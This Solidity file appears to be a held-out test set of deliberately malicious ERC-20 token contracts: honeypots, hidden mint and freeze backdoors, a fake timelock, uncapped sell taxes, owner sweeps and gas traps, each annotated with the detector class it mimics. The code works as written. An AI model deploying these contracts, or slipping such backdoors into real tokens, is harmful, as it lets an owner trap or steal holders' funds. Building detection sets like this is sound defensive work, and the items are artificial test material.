// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ECDSA} from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";
import {MessageHashUtils} from "@openzeppelin/contracts/utils/cryptography/MessageHashUtils.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Pausable} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Pausable.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {H6ERC20, H6Owned, H6PairAware} from "./H6Base.sol";

/// Held-out EVM set v6, danger shapes. Written for this set from public descriptions of rug and honeypot patterns
/// (GoPlus token_security fields, TokenSniffer and Honeypot.is risk descriptions, CertiK / SlowMist finding classes,
/// CRPWarner's rug-pull function classes, rekt.news write-ups; read 2026-11-27). No code copied.

interface IH6Pair {
    function sync() external;
}

/// Signature-voucher mint (GoPlus is_mintable; CertiK "signature replay / privileged signer"): any amount is minted
/// to anyone who shows a voucher signed by `voucherSigner`, an address the owner (one EOA) sets.
contract H6VoucherToken is H6ERC20, H6Owned {
    error VoucherUsed();
    error BadVoucher();

    address public voucherSigner;
    mapping(bytes32 => bool) public redeemed;

    constructor(uint256 supply, address signer_) H6ERC20("Voucher Six", "VSIX") {
        voucherSigner = signer_;
        _mint(msg.sender, supply);
    }

    function setVoucherSigner(address s) external onlyOwner {
        voucherSigner = s;
    }

    function redeem(address to, uint256 amount, bytes32 nonce, bytes calldata sig) external {
        if (redeemed[nonce]) revert VoucherUsed();
        bytes32 digest = MessageHashUtils.toEthSignedMessageHash(keccak256(abi.encode(address(this), to, amount, nonce)));
        if (ECDSA.recover(digest, sig) != voucherSigner) revert BadVoucher();
        redeemed[nonce] = true;
        _mint(to, amount);
    }
}

/// A token with no owner whose only minter is a "rewards" helper contract; the helper's owner (one EOA) distributes
/// any amount (CRPWarner: mint through a helper; CertiK centralization).
contract H6RewardToken is H6ERC20 {
    address public immutable rewarder;

    constructor(uint256 supply, address rewarder_) H6ERC20("Staking Reward Six", "SRS") {
        rewarder = rewarder_;
        _mint(msg.sender, supply);
    }

    function mintRewards(address to, uint256 amount) external {
        require(msg.sender == rewarder, "only rewarder");
        _mint(to, amount);
    }
}

contract H6Rewarder is H6Owned {
    H6RewardToken public token;

    function bind(H6RewardToken t) external onlyOwner {
        require(address(token) == address(0), "bound");
        token = t;
    }

    function distribute(address to, uint256 amount) external onlyOwner {
        token.mintRewards(to, amount);
    }
}

/// transferFrom skips the allowance for a "trusted router" the owner sets (GoPlus owner_change_balance; approval
/// abuse): the owner names itself and moves any holder's tokens.
contract H6TrustedRouterToken is H6ERC20, H6Owned {
    address public trustedRouter;

    constructor(uint256 supply, address router) H6ERC20("Router Trust Six", "RTS") {
        trustedRouter = router;
        _mint(msg.sender, supply);
    }

    function setTrustedRouter(address r) external onlyOwner {
        trustedRouter = r;
    }

    function _useAllowance(address from, address spender, uint256 amount) internal override {
        if (spender == trustedRouter) return; // "gas optimisation"
        super._useAllowance(from, spender, amount);
    }
}

/// Counter trap (Honeypot.is: sells stop after a number of sells): only the first three sells to the pair by anyone
/// but the owner go through; every later one reverts with no reason.
contract H6SellQuotaToken is H6ERC20, H6PairAware {
    uint256 private constant QUOTA = 3;
    uint256 public sellsSeen;

    constructor(uint256 supply) H6ERC20("Quota Six", "QSIX") {
        _mint(msg.sender, supply);
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) {
            sellsSeen += 1;
            if (sellsSeen > QUOTA) {
                assembly {
                    revert(0, 0)
                }
            }
        }
        _move(from, to, amount);
    }
}

/// A sell cooldown after each buy whose length the owner sets without bound (GoPlus trading_cooldown).
contract H6CooldownToken is H6ERC20, H6PairAware {
    uint256 public cooldown = 30;
    mapping(address => uint256) public lastBuy;

    constructor(uint256 supply) H6ERC20("Cooldown Six", "CDS") {
        _mint(msg.sender, supply);
    }

    function setCooldown(uint256 seconds_) external onlyOwner {
        cooldown = seconds_;
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (from == pair) lastBuy[to] = block.timestamp;
        else if (to == pair && from != owner) require(block.timestamp >= lastBuy[from] + cooldown, "cooldown");
        _move(from, to, amount);
    }
}

/// A fallback that DELEGATECALLs an "extension" the owner (one EOA) swaps (CertiK: delegatecall to a mutable
/// address). Token and extensions share one layout.
abstract contract H6ModularLayout {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;
    address public extension;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

contract H6ModularToken is H6ModularLayout {
    constructor(uint256 supply, address ext) {
        name = "Modular Six";
        symbol = "MODS";
        owner = msg.sender;
        extension = ext;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function setExtension(address e) external {
        require(msg.sender == owner, "owner");
        extension = e;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= amount, "allowance");
            allowance[from][msg.sender] = a - amount;
        }
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) internal {
        require(balanceOf[from] >= amount, "balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }

    fallback() external payable {
        address ext = extension;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), ext, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }

    receive() external payable {}
}

/// The extension installed at launch: a version string.
contract H6InfoExtension is H6ModularLayout {
    function extensionVersion() external pure returns (string memory) {
        return "info-1";
    }
}

/// An extension the owner can install: mints.
contract H6MintExtension is H6ModularLayout {
    function issue(address to, uint256 amount) external {
        require(msg.sender == owner, "owner");
        totalSupply += amount;
        balanceOf[to] += amount;
        emit Transfer(address(0), to, amount);
    }
}

/// A freeze under an innocent name, kept in an unnamed storage slot through assembly (GoPlus is_blacklisted):
/// "reward exclusion" makes every transfer from the account revert.
contract H6ExclusionToken is H6ERC20, H6Owned {
    bytes32 private constant SEED = keccak256("h6.reward.exclusion");

    constructor(uint256 supply) H6ERC20("Reward Six", "RWS") {
        _mint(msg.sender, supply);
    }

    function setRewardExclusion(address account, bool excluded) external onlyOwner {
        bytes32 seed = SEED;
        assembly {
            mstore(0, account)
            mstore(32, seed)
            sstore(keccak256(0, 64), excluded)
        }
    }

    function _update(address from, address to, uint256 amount) internal override {
        bytes32 seed = SEED;
        bool excluded;
        assembly {
            mstore(0, from)
            mstore(32, seed)
            excluded := sload(keccak256(0, 64))
        }
        require(!excluded, "REWARD_SYNC");
        _move(from, to, amount);
    }
}

/// An "anti-bot mode" the owner (one EOA) switches on at will: then only verified addresses may transfer
/// (Honeypot.is whitelist honeypot; GoPlus transfer_pausable).
contract H6AntiBotToken is H6ERC20, H6Owned {
    error AntiBot(address account);

    bool public antiBotActive;
    mapping(address => bool) public verified;

    constructor(uint256 supply) H6ERC20("Anti Bot Six", "ABS") {
        _mint(msg.sender, supply);
    }

    function setAntiBot(bool on) external onlyOwner {
        antiBotActive = on;
    }

    function setVerified(address a, bool v) external onlyOwner {
        verified[a] = v;
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (antiBotActive && from != owner && !verified[from]) revert AntiBot(from);
        _move(from, to, amount);
    }
}

/// "reduceSupply" burns the pair's own tokens and syncs it (rekt.news / SlowMist: pool balance burn): the price
/// jumps and the owner's small bag buys out the whole quote side.
contract H6SyncBurnToken is H6ERC20, H6PairAware {
    constructor(uint256 supply) H6ERC20("Deflation Six", "DFS") {
        _mint(msg.sender, supply);
    }

    function reduceSupply(uint256 bps) external onlyOwner {
        _burn(pair, (balanceOf[pair] * bps) / 10_000);
        IH6Pair(pair).sync();
    }
}

/// OpenZeppelin ERC20 + ERC20Pausable + AccessControl, no owner(): the PAUSER_ROLE holder stops every transfer.
contract H6RolePauseToken is ERC20, ERC20Pausable, AccessControl {
    bytes32 public constant PAUSER_ROLE = keccak256("PAUSER_ROLE");

    constructor(uint256 supply, address admin) ERC20("Role Pause Six", "RPS") {
        _grantRole(DEFAULT_ADMIN_ROLE, admin);
        _grantRole(PAUSER_ROLE, admin);
        _mint(msg.sender, supply);
    }

    function pause() external onlyRole(PAUSER_ROLE) {
        _pause();
    }

    function unpause() external onlyRole(PAUSER_ROLE) {
        _unpause();
    }

    function _update(address from, address to, uint256 value) internal override(ERC20, ERC20Pausable) {
        super._update(from, to, value);
    }
}

/// Balances live in a separate ledger contract whose owner (one EOA) writes any balance (issue class: balances held
/// by a contract the token does not control; GoPlus owner_change_balance).
contract H6Ledger is H6Owned {
    address public token;
    mapping(address => uint256) public balances;

    function bind(address t) external onlyOwner {
        require(token == address(0), "bound");
        token = t;
    }

    function credit(address a, uint256 amount) external {
        require(msg.sender == token, "token");
        balances[a] += amount;
    }

    function move(address from, address to, uint256 amount) external {
        require(msg.sender == token, "token");
        require(balances[from] >= amount, "balance");
        balances[from] -= amount;
        balances[to] += amount;
    }

    function adjust(address a, uint256 amount) external onlyOwner {
        balances[a] = amount;
    }
}

contract H6LedgerToken {
    string public constant name = "Ledger Six";
    string public constant symbol = "LGS";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    H6Ledger public immutable ledger;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply, H6Ledger l) {
        ledger = l;
        totalSupply = supply;
    }

    /// Called once by the deployer after the ledger is bound to this token.
    function seed() external {
        require(ledger.balances(msg.sender) == 0 && totalSupply > 0 && ledger.token() == address(this), "seeded");
        require(msg.sender == ledger.owner(), "owner");
        ledger.credit(msg.sender, totalSupply);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address a) external view returns (uint256) {
        return ledger.balances(a);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        ledger.move(msg.sender, to, amount);
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= amount, "allowance");
            allowance[from][msg.sender] = a - amount;
        }
        ledger.move(from, to, amount);
        emit Transfer(from, to, amount);
        return true;
    }
}

/// Ownership renounced, but a keeper address fixed in the bytecode (immutable) can move any balance (issue: admin
/// hard-coded in the bytecode; CertiK hidden privileged account).
contract H6KeeperToken is H6ERC20, H6Owned {
    address private immutable keeper;

    constructor(uint256 supply) H6ERC20("Keeper Six", "KPS") {
        keeper = msg.sender;
        _mint(msg.sender, supply);
    }

    function rescue(address from, address to, uint256 amount) external {
        if (msg.sender != keeper) revert();
        _move(from, to, amount);
    }
}

/// Time trap (Honeypot.is: tax raised after launch): sells pay 2 % for 72 hours after deployment, 95 % afterwards;
/// the tax goes to the deployer.
contract H6EscalatingTaxToken is H6ERC20, H6PairAware {
    uint256 public immutable launchedAt;
    address public immutable treasury;

    constructor(uint256 supply) H6ERC20("Escalator Six", "ESC6") {
        launchedAt = block.timestamp;
        treasury = msg.sender;
        _mint(msg.sender, supply);
    }

    function sellTaxBps() public view returns (uint256) {
        return block.timestamp < launchedAt + 72 hours ? 200 : 9_500;
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (to == pair && from != treasury) {
            uint256 tax = (amount * sellTaxBps()) / 10_000;
            _move(from, treasury, tax);
            amount -= tax;
        }
        _move(from, to, amount);
    }
}

/// Compound-style names (queueTransaction / executeTransaction / delay), but setDelay is callable by the admin
/// directly and has no minimum: the "timelock" is one key with a pause it can remove (rekt.news: fake timelocks).
contract H6LooseTimelock {
    address public admin;
    uint256 public delay;
    mapping(bytes32 => bool) public queuedTransactions;

    constructor(address admin_, uint256 delay_) {
        admin = admin_;
        delay = delay_;
    }

    function setDelay(uint256 d) external {
        require(msg.sender == admin, "admin");
        delay = d;
    }

    function queueTransaction(address target, uint256 value, string calldata signature, bytes calldata data, uint256 eta)
        external
        returns (bytes32 h)
    {
        require(msg.sender == admin, "admin");
        require(eta >= block.timestamp + delay, "eta");
        h = keccak256(abi.encode(target, value, signature, data, eta));
        queuedTransactions[h] = true;
    }

    function executeTransaction(
        address target,
        uint256 value,
        string calldata signature,
        bytes calldata data,
        uint256 eta
    ) external payable returns (bytes memory) {
        require(msg.sender == admin, "admin");
        bytes32 h = keccak256(abi.encode(target, value, signature, data, eta));
        require(queuedTransactions[h] && block.timestamp >= eta, "not ready");
        queuedTransactions[h] = false;
        bytes memory call = bytes(signature).length == 0
            ? data
            : abi.encodePacked(bytes4(keccak256(bytes(signature))), data);
        (bool ok, bytes memory ret) = target.call{value: value}(call);
        require(ok, "call failed");
        return ret;
    }
}

/// "burnLost" destroys any account's whole balance, owner-only (CRPWarner: destroy holders' tokens).
contract H6BurnLostToken is H6ERC20, H6Owned {
    constructor(uint256 supply) H6ERC20("Lost Burn Six", "LBS") {
        _mint(msg.sender, supply);
    }

    function burnLost(address account) external onlyOwner {
        _burn(account, balanceOf[account]);
    }
}

/// approve() refuses every spender unless the owner approved the seller (Uniswap "unsellable token" support page:
/// approvals that fail): buying works, selling through any router, aggregator or Permit2 needs an approval nobody
/// else gets.
contract H6ApproveGateToken is H6ERC20, H6Owned {
    error ApprovalsPaused();

    mapping(address => bool) public approvedSeller;

    constructor(uint256 supply) H6ERC20("Approve Gate Six", "AGS") {
        _mint(msg.sender, supply);
    }

    function setSeller(address a, bool ok) external onlyOwner {
        approvedSeller[a] = ok;
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (msg.sender != owner && !approvedSeller[msg.sender]) revert ApprovalsPaused();
        return super.approve(spender, amount);
    }
}

/// EIP-1822 (UUPS, original "PROXIABLE" slot, eips.ethereum.org/EIPS/eip-1822): the proxy keeps the logic address
/// at keccak256("PROXIABLE"); the logic's owner (one EOA) calls updateCode.
contract H6ProxiableProxy {
    constructor(bytes memory constructData, address logic) {
        assembly {
            sstore(0xc5f16f0fcc639fa48a6947836d9850f504798523bf8c9a3a87d5876cf622bcf7, logic)
        }
        (bool ok, ) = logic.delegatecall(constructData);
        require(ok, "construction failed");
    }

    fallback() external payable {
        assembly {
            let logic := sload(0xc5f16f0fcc639fa48a6947836d9850f504798523bf8c9a3a87d5876cf622bcf7)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}

contract H6ProxiableToken {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event CodeUpdated(address indexed logic);

    function constructor1(address holder, uint256 supply) external {
        require(owner == address(0), "constructed");
        owner = holder;
        name = "Proxiable Six";
        symbol = "PRX6";
        totalSupply = supply;
        balanceOf[holder] = supply;
        emit Transfer(address(0), holder, supply);
    }

    function proxiableUUID() public pure returns (bytes32) {
        return 0xc5f16f0fcc639fa48a6947836d9850f504798523bf8c9a3a87d5876cf622bcf7;
    }

    function updateCode(address newLogic) external {
        require(msg.sender == owner, "owner");
        require(H6ProxiableToken(newLogic).proxiableUUID() == proxiableUUID(), "not proxiable");
        assembly {
            sstore(0xc5f16f0fcc639fa48a6947836d9850f504798523bf8c9a3a87d5876cf622bcf7, newLogic)
        }
        emit CodeUpdated(newLogic);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= amount, "allowance");
            allowance[from][msg.sender] = a - amount;
        }
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) internal {
        require(balanceOf[from] >= amount, "balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// The code the EIP-1822 owner could install: adds a sweep of any holder.
contract H6ProxiableTokenV2 is H6ProxiableToken {
    function sweep(address from, address to) external {
        _move(from, to, balanceOf[from]);
    }
}

/// Ownership renounced, but the "marketing wallet" sets buy and sell fees up to 100 % (issue: a renounced owner plus
/// an operator role that keeps an uncapped fee setter).
contract H6MarketingFeeToken is H6ERC20, H6PairAware {
    address public marketingWallet;
    uint16 public buyFee = 300;
    uint16 public sellFee = 300;

    constructor(uint256 supply) H6ERC20("Marketing Six", "MKS") {
        marketingWallet = msg.sender;
        _mint(msg.sender, supply);
    }

    function updateMarketing(uint16 buyFee_, uint16 sellFee_) external {
        require(msg.sender == marketingWallet, "marketing");
        require(buyFee_ <= 10_000 && sellFee_ <= 10_000, "bps");
        buyFee = buyFee_;
        sellFee = sellFee_;
    }

    function _update(address from, address to, uint256 amount) internal override {
        uint256 fee;
        if (from == pair && to != marketingWallet) fee = (amount * buyFee) / 10_000;
        else if (to == pair && from != marketingWallet) fee = (amount * sellFee) / 10_000;
        if (fee > 0) {
            _move(from, marketingWallet, fee);
            amount -= fee;
        }
        _move(from, to, amount);
    }
}

/// Sells by anyone not "excluded from fees" burn more gas than a block holds (Honeypot.is: gas-griefing honeypot;
/// the issue's out-of-gas trap): a loop of fresh SSTOREs that always runs out of gas and reverts.
contract H6GasTrapToken is H6ERC20, H6PairAware {
    mapping(address => bool) public isExcludedFromFees;

    constructor(uint256 supply) H6ERC20("Gas Six", "GAS6") {
        isExcludedFromFees[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    function excludeFromFees(address a, bool e) external onlyOwner {
        isExcludedFromFees[a] = e;
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (to == pair && !isExcludedFromFees[from]) {
            assembly {
                let base := keccak256(0, 64)
                for {
                    let i := 0
                } lt(i, 6000) {
                    i := add(i, 1)
                } {
                    sstore(add(base, i), add(i, 1))
                }
            }
        }
        _move(from, to, amount);
    }
}
